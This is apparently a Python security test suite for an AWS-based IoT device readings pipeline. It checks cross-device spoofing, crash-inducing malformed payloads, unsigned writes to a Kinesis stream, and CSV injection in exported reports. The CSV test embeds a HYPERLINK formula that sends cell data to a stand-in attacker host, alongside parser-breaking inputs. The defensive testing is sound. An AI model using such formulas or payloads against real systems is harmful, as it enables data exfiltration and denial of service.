"""Devices that send what they must not, and what becomes of it in reports."""

from __future__ import annotations

import csv
import io
import json
from functools import cached_property
from typing import Any

import boto3
from botocore import UNSIGNED
from botocore.config import Config
from botocore.exceptions import ClientError

from deploy.attack.case import Attack, case
from deploy.verify.journey import Unexpected
from deploy.verify.pipeline import Pipeline
from deploy.verify.removal import delete_item

_STOPPED = 120.0
"""Seconds after which the stream counts as stopped. A reading needs a few."""
_FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'


class Devices(Attack, Pipeline):
    """The attacker has a device, whose readings are of a day of which nobody else has any."""

    kind = "devices"
    app = "pipeline-app"

    @case
    def a_reading_in_another_devices_name(self) -> None:
        """The owner of one device changes the values and raises the alerts of all."""
        other = f"{self._device}-other"
        self.remove_later(
            "the other device",
            lambda: delete_item(self.client("dynamodb"), self.outputs()["DevicesTable"], device_id=other),
        )
        self._publish(self._reading("temperature", 99.0, "C", 10) | {"device_id": other})
        self._publish(self._reading("after", 1.0, "", 11))
        self._until_known("after")
        self.refused(self.reader.get(f"/devices/{other}"), 404)

    @case
    def readings_that_end_the_function(self) -> None:
        """One device stops the readings of all: the same records are tried again until they are too old."""
        for payload in (
            *(b"", b"\x00", b"\xff\xfe", b"[" * 50_000, b'{"a":' * 20_000, b"9" * 50_000, b'{"value": 1e999}', b"null"),
            *(b'{"device_id": NaN}', json.dumps(self._reading("x", 1.0, "", 1) | {"ts": 1e300}).encode()),
            json.dumps(self._reading("x", 1.0, "", 10**400)).encode(),
        ):
            self._send(payload)
        self._publish(self._reading("alive", 1.0, "", 12))
        try:
            self._until_known("alive", _STOPPED)
        except Unexpected as unexpected:
            self.without(True, unexpected)

    @case
    def a_reading_without_a_certificate(self) -> None:
        """Everybody writes readings."""
        anonymous: Any = boto3.Session().client("kinesis", config=Config(signature_version=UNSIGNED))
        try:
            anonymous.put_record(StreamName=self.outputs()["Stream"], Data=b"{}", PartitionKey="x")
        except ClientError as error:
            code = error.response["Error"]["Code"]
            self.expect("Denied" in code or "Token" in code or "Signature" in code, "a refusal", code)
        else:
            self.without(True, "a record in the stream")

    @case
    def a_formula_in_a_report(self) -> None:
        """Who opens a report in a spreadsheet sends its cells to the attacker (CSV injection)."""
        self.expect(self._device, "a device", "none")
        self._publish(self._reading(_FORMULA, 1.0, "", 13))
        self.until(
            self._report, lambda answer: _FORMULA in answer.body.decode().replace('\\"', '"'), "a report with it"
        )
        place = self.allowed(self.reader.get(f"/reports/hourly/download?period={self.day}")).json["url"]
        content = self.allowed(self.http.get(place)).body.decode()
        cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
        self.expect(any("HYPERLINK" in cell for cell in cells), "the text in the report", cells)
        self.without([cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], cells)

    @cached_property
    def _device(self) -> str:
        """The attacker's device, which has sent readings before."""
        self.send()
        return self.name

    def _publish(self, reading: dict[str, Any]) -> None:
        self._send(json.dumps(reading).encode())

    def _send(self, payload: bytes) -> None:
        topic = f"{self.outputs()['DeviceTopics']}/{self._device}/readings"
        self.client("iot-data").publish(topic=topic, qos=1, payload=payload)

    def _until_known(self, metric: str, longest: float | None = None) -> None:
        self.until(
            lambda: self.reader.get(f"/devices/{self._device}"),
            lambda answer: answer.status == 200 and metric in answer.json["metrics"],
            f"the metric {metric}",
            longest,
        )
